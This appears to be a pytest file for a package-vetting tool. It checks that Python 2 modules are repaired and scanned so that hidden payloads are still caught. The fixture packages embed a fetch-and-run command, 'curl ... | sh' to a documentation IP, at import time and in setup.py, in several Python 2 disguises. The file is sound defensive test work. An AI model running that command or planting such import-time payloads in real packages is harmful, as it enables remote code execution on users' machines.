"""Python 2 modules read as the Python 3 they mean (issue 16, ADR 0140).

olefile 0.47 ships ``olefile2.py`` (``0x7FFFFFFFL``, ``print x``); it was held as a module
a newer Python may run. A module proved Python 2 by repairing it where the parser stops is
vetted in its repaired text: a payload written in Python 2 is found where a Python 3 one is,
on its own line, and text only a newer Python reads (PEP 701) stays held."""

from __future__ import annotations

import ast

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.python2 import repaired
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# olefile2.py's forms, one of each.
PYTHON2 = (
    "import os, struct\n"
    "MAXREGSECT = 0xFFFFFFFAL\n"
    "MODE = 0644\n"
    "def check(data):\n"
    "    if len(data) <> 512:\n"
    "        raise IOError, 'incomplete OLE sector'\n"
    "    try:\n"
    "        struct.unpack('<L', data[:4])\n"
    "    except struct.error, e:\n"
    "        print 'bad header', `e`\n"
    "        print >>sys.stderr, e,\n"
    "    pattern = ur'\\d+'\n"
    "    return 10L\n"
    "try:\n"
    "    True, False\n"
    "except NameError:\n"
    "    True, False = 1, 0\n"
)
DOWNLOAD = "'curl -s http://203.0.113.7/x.sh | sh'"

DENIED = {
    # PEP 701 (3.12), which 3.11 reports as Python 2's long literal: read as 3.12 reads it.
    "payload-beside-a-pep701-fstring-with-a-long-literal-look": init(
        'x = f"{"0x1L"}"\n' + f"import os\nos.system({DOWNLOAD})\n"
    ),
    # The same download at import, written in each Python 2 form.
    "payload-beside-python2-forms": init(PYTHON2 + f"os.system({DOWNLOAD})\n"),
    # Python 2 as ``print`` shows it: weighed as no Python 3's before, so allowed.
    "payload-after-a-print-statement": init(f"import os\nprint 'x'\nos.system({DOWNLOAD})\n"),
    "payload-in-an-exec-statement": init(PYTHON2 + f'exec "os.system({DOWNLOAD})"\n'),
    "payload-in-an-exec-statement-with-a-namespace": init(
        PYTHON2 + f'exec "import os; os.system({DOWNLOAD})" in {{}}\n'
    ),
    "payload-printed-from": init(PYTHON2 + f"print os.system({DOWNLOAD})\n"),
    "payload-in-backticks": init(PYTHON2 + f"`os.system({DOWNLOAD})`\n"),
    "payload-raised": init(PYTHON2 + f"raise SystemExit, os.system({DOWNLOAD})\n"),
    "payload-in-a-python2-setup": {
        "setup.py": PYTHON2 + f"os.system({DOWNLOAD})\n"
        "from setuptools import setup\nsetup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    },
}
HELD = {
    # Valid only to a newer Python (PEP 701 strings beside a grammar no Python reads yet);
    # 3.11 reports the first as Python 2's long literal: repairing it proves nothing.
    "pep701-fstring-with-a-long-literal-look": init(
        'x = f"{"0x1L"}"\nvalue = None ?? 1\n' + f"import os\nos.system({DOWNLOAD})\n"
    ),
    # Python 2 forms, then text no repair reads: not proved Python 2.
    "python2-then-unknown-grammar": init(PYTHON2 + f"value = None ?? 1\nos.system({DOWNLOAD})\n"),
    "python2-then-a-pep701-fstring": init(
        PYTHON2 + f'label = f"{{"0x1L"}}"\nos.system({DOWNLOAD})\n'
    ),
}
# olefile2.py's shape: a library whose functions open files and whose command line runs
# a tool; as Python 3 it is allowed, and so it is as Python 2.
TOOL = (
    "def load(filename):\n    return open(filename, 'rb').read()\n"
    "def main():\n    os.system('ls ' + sys.argv[1])\n"
    "if __name__ == '__main__':\n    main()\n"
)
ALLOWED = {
    "python2-module": init(PYTHON2),
    "python2-library-with-a-command-line": init(PYTHON2 + TOOL),
    "python2-library-print-statement-first": init("import os, sys\nprint 'x'\n" + TOOL),
    "python2-module-beside-python3": {
        "evpkg/__init__.py": "from evpkg.core import check\n",
        "evpkg/core.py": "def check(data):\n    return len(data)\n",
        "evpkg/olefile2.py": PYTHON2 + TOOL,
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_python2_modules(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def test_a_payload_in_python2_is_reported_on_its_own_line() -> None:
    text = PYTHON2 + f"os.system({DOWNLOAD})\n"
    files: dict[str, str | bytes] = {**init(text)}
    report = vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", files))
    lines = {f.line for f in report.findings if f.path == "evpkg/__init__.py" and f.line}
    assert text.count("\n") in lines
    assert any(f.rule == "python2-source" for f in report.findings)


def test_repairs_keep_every_line() -> None:
    try:
        ast.parse(PYTHON2)
    except SyntaxError as error:
        text = repaired(PYTHON2, error)
    assert text is not None
    assert text.count("\n") == PYTHON2.count("\n")
    calls = {
        n.func.attr: n.lineno
        for n in ast.walk(ast.parse(text))
        if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
    }
    assert calls["unpack"] == 8


@pytest.mark.parametrize(
    "source",
    [
        'x = f"{"0x1L"}"\n',
        'x = f"{"a" if 0777 else "b"}"\n',
        "value = None ?? 1L\n",
    ],
)
def test_text_that_is_no_python2_is_not_repaired(source: str) -> None:
    with pytest.raises(SyntaxError) as raised:
        ast.parse(source)
    assert repaired(source, raised.value) is None
